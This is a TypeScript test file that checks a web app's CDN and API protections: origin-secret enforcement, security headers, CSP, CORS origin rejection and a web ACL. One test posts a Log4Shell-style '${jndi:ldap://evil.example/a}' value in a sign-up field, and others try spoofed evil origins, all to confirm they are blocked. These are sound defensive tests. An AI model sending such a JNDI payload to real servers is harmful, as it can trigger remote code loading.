import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { Route } from '../../functions/contracts/api/route.ts';
import { apiRoutes } from '../../functions/contracts/api/routes.ts';
import { chromiumPath, startChromium, WITHOUT_CHROMIUM } from '../../scripts/browser/chromium.ts';
import { asTheDistribution, ownAddress } from '../support/behind-the-distribution.ts';
import { type People, peopleOf, type SignedIn } from '../support/people.ts';
import { type FlowWorld, startFlowWorld } from '../support/world.ts';

let world: FlowWorld;
let people: People;
let owner: SignedIn;
/** Of the distribution. */
let web: string;

beforeAll(async () => {
  world = await startFlowWorld(undefined, { store: 'memory' });
  people = peopleOf(world);
  owner = await people.aPerson();
  web = String(world.cloud.outputs.WebUrl);
});
afterAll(() => world?.stop());

const routes: readonly Route[] = Object.values(apiRoutes).flatMap((table) => Object.values(table));
const pathOf = ({ at }: Route): string => at.replaceAll(/\{\w+\}/g, 'x');
const calls = () => world.cloud.requests().filter(({ caller }) => caller.startsWith('api/')).length;

describe("the API's own address [C3]", () => {
  it.each(routes.map((route) => [`${route.method} ${route.at}`, route] as const))(
    'answers nobody at %s, signed in or not, and reads nothing',
    async (_key, route) => {
      const before = calls();
      const ask = async (headers: Record<string, string>) => {
        const answer = await fetch(`${ownAddress(world)}${pathOf(route)}`, {
          method: route.method,
          headers: { authorization: `Bearer ${owner.tokens.accessToken}`, ...headers },
        });
        const { title, message } = (await answer.json()) as { title?: string; message?: string };
        return [answer.status, title ?? message];
      };

      const answers = [await ask({}), await ask({ 'x-origin-secret': 'guessed '.repeat(8) })];

      // Operators have tokens of another pool, and API Gateway sees that before anybody else does.
      const refused = route.access.who === 'operator' ? [401, 'Unauthorized'] : [403, 'direct_request'];
      expect(answers).toEqual([refused, refused]);
      expect(calls()).toBe(before);
    },
  );

  it('answers whoever shows the secret', async () => {
    const answer = await fetch(`${ownAddress(world)}/v1/me`, {
      headers: { authorization: `Bearer ${owner.tokens.accessToken}`, ...asTheDistribution(world) },
    });

    expect(answer.status).toBe(200);
  });
});

describe('the distribution [C3]', () => {
  const me = (headers: Record<string, string> = {}) =>
    fetch(`${web}/v1/me`, {
      headers: { authorization: `Bearer ${owner.tokens.accessToken}`, ...headers },
    });

  it('is where people are answered, whatever secret they claim to have', async () => {
    expect((await me()).status).toBe(200);
    expect((await me({ 'x-origin-secret': 'guessed '.repeat(8) })).status).toBe(200);
  });

  it.each([
    ['a page', '/', 200],
    ['a screen of the dashboard', '/calls/today', 200],
    ['an answer of the API', '/v1/me', 401],
    ['a route that is not there', '/v1/nothing', 404],
  ])('tells a browser the same of %s', async (_what, path, status) => {
    const answer = await fetch(`${web}${path}`);

    expect(answer.status).toBe(status);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-security-policy': expect.stringContaining("default-src 'self'"),
      'strict-transport-security': 'max-age=63072000; includeSubDomains',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'no-referrer',
      'permissions-policy': expect.stringContaining('microphone=()'),
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
    const policy = String(answer.headers.get('content-security-policy')).split('; ');
    // Styles may be inline; the live channel and recordings are elsewhere. Scripts are ours alone.
    const others = policy.filter((rule) => !/^(style|connect|media)-src /.test(rule));
    expect(others.join('; ')).not.toMatch(/unsafe|\*|https?:/);
    expect(policy.join('; ')).not.toMatch(/unsafe-eval|\*|script-src/);
  });

  it('puts no page in the place of what the API refuses', async () => {
    const answer = await fetch(`${web}/v1/sessions`, { method: 'POST', body: 'none' });

    expect([answer.status, answer.headers.get('content-type')]).toEqual([400, 'application/problem+json']);
    expect(await answer.json()).toMatchObject({ title: 'malformed_request' });
  });

  it('blocks what its web ACL knows, before a function sees it', async () => {
    const before = world.lines.length;

    const answer = await fetch(`${web}/v1/sign-up`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: `{"email":"a@people.example","name":"\${jndi:ldap://evil.example/a}"}`,
    });

    expect(answer.status).toBe(403);
    expect(world.lines.slice(before).filter(({ source }) => source.startsWith('function:api'))).toEqual([]);
  });
});

describe('pages of another origin [C3]', () => {
  const asked = (origin: string) => ({ origin, 'access-control-request-method': 'POST' });
  const allowed = (answer: Response) =>
    [...answer.headers.keys()].filter((name) => name.startsWith('access-control-'));

  it('may call the API from where a dashboard is developed, here, and without cookies', async () => {
    const preflight = await fetch(`${web}/v1/sessions`, {
      method: 'OPTIONS',
      headers: { ...asked('http://localhost:5173'), 'access-control-request-headers': 'authorization' },
    });

    expect(preflight.status).toBe(204);
    expect(Object.fromEntries(preflight.headers)).toMatchObject({
      'access-control-allow-origin': 'http://localhost:5173',
      'access-control-allow-methods': 'GET,POST,PUT,PATCH,DELETE',
      'access-control-allow-headers': 'authorization,content-type,idempotency-key',
    });
    expect(allowed(preflight)).not.toContain('access-control-allow-credentials');
  });

  it.each([
    'null',
    'https://localhost:5173',
    'http://localhost:51730',
    'http://localhost:5173.evil.example',
    'http://localhost',
    'http://127.0.0.1:5173',
    'http://LOCALHOST:5173',
    'http://localhost:5173/',
    'http://evil.example#http://localhost:5173',
    'https://app.cloudgreet.example',
    'https://app.cloudgreet.example.evil.com',
    'http://app.cloudgreet.example',
  ])('F-PUB-6: are told nothing that would let them: %s', async (origin) => {
    const preflight = await fetch(`${web}/v1/sessions`, { method: 'OPTIONS', headers: asked(origin) });
    const answer = await fetch(`${web}/v1/health`, { headers: { origin } });

    expect([allowed(preflight), allowed(answer)]).toEqual([[], []]);
  });
});

describe('the page [C3]', () => {
  it('opens in a browser, which finds nothing against its policy, and can call the API but no inline script', async ({
    skip,
  }) => {
    const chromium = chromiumPath();
    if (!chromium) return skip(WITHOUT_CHROMIUM);
    const { context, close } = await startChromium(chromium);
    onTestFinished(close);
    await context.setOffline(false);
    const page = await context.newPage();
    const faults: string[] = [];
    page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
    page.on('pageerror', ({ message }) => faults.push(message));
    const answers = new Map<string, number>();
    page.on('response', (answer) => answers.set(new URL(answer.url()).pathname, answer.status()));

    await page.goto(`${web}/calls/today`);
    await page.getByRole('heading', { name: 'There is nothing here' }).waitFor({ state: 'visible' });
    await page.waitForLoadState('networkidle');
    const health = await page.evaluate('fetch("/v1/health").then((answer) => answer.json())');

    expect(Object.fromEntries(answers)).toMatchObject({ '/calls/today': 200, '/config.json': 200 });
    expect(health).toEqual({ status: 'ok' });
    expect(faults).toEqual([]);

    const ran = await page.evaluate(`new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => resolve(violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
    })`);
    expect([ran, await page.evaluate('window.ran')]).toEqual(['script-src-elem', undefined]);
  });
});
